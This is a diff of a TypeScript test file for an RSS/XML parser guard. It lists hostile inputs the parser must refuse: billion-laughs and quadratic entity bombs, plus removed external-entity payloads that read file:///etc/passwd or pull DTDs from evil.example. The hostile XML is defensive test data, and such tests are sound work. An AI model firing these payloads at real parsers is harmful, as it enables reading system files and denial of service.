@@ -5,7 +5,7 @@ import { MAX_XML_BYTES } from "../../../build/lib/xml-guard.ts";
 import { readBody } from "../../../build/platform/http/http-exchange.ts";
 import { ecb } from "../../../build/sources/fiat/ecb.ts";
 import { newsPublishers } from "../../../build/sources/news/news-publishers.ts";
-import { recordTries } from "./record-tries.ts";
+import { recordTries } from "./random.ts";
 
 const NOW = Date.parse("2026-11-20T12:00:00Z");
 const SIZE = MAX_XML_BYTES - 1_000;
@@ -20,17 +20,12 @@ const LAUGHS = Array.from({ length: 9 }, (_, level) => `<!ENTITY l${level + 1} "
   "",
 );
 
-/** What must never reach a parser. */
+/** What must never reach a parser; `xml-guard.test.ts` has the other forms. */
 const REFUSED: Readonly<Record<string, string>> = {
   "a billion laughs": `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">${LAUGHS}]><rss><channel><item><title>&l9;</title></item></channel></rss>`,
-  "an external entity": `<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel><item><title>&x;</title></item></channel></rss>`,
-  "an external entity over HTTP": `<!DOCTYPE rss SYSTEM "http://evil.example/x.dtd"><rss><channel></channel></rss>`,
-  "a parameter entity": `<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/p">%p;]><rss></rss>`,
   "a quadratic blow-up": `<!DOCTYPE rss [<!ENTITY a "${"a".repeat(100_000)}">]>${rss(`<item><title>${"&a;".repeat(50_000)}</title></item>`)}`,
-  "a DOCTYPE in capitals behind a comment": `<!-- x -->\n<!DoCtYpE rss>${rss(ITEM)}`,
   "an entity in a CDATA section": rss(`<item><title><![CDATA[<!ENTITY x "y">]]></title></item>`),
   "more than the limit": rss(ITEM.repeat(Math.ceil((MAX_XML_BYTES * 1.2) / ITEM.length))),
-  "a document that was cut off": `<rss><channel>${fill(ITEM)}`,
   "an HTML page": `<!doctype html><html>${fill("<p>x</p>")}</html>`,
 };
 
@@ -55,15 +50,8 @@ const ODD: Readonly<Record<string, string>> = {
 
 function read(text: string, source: (typeof newsPublishers)[number]): string | null {
   const feed = source.feeds[0]!;
-  const response = {
-    url: "",
-    status: 200,
-    body: text,
-    bytes: text.length,
-    receivedAtMs: NOW,
-    serverTimeMs: NOW,
-    validators: {},
-  };
+  const times = { receivedAtMs: NOW, serverTimeMs: NOW };
+  const response = { url: "", status: 200, body: text, bytes: text.length, validators: {}, ...times };
   try {
     parseAnswer(feed, { url: "" }, response, () => []);
     return null;
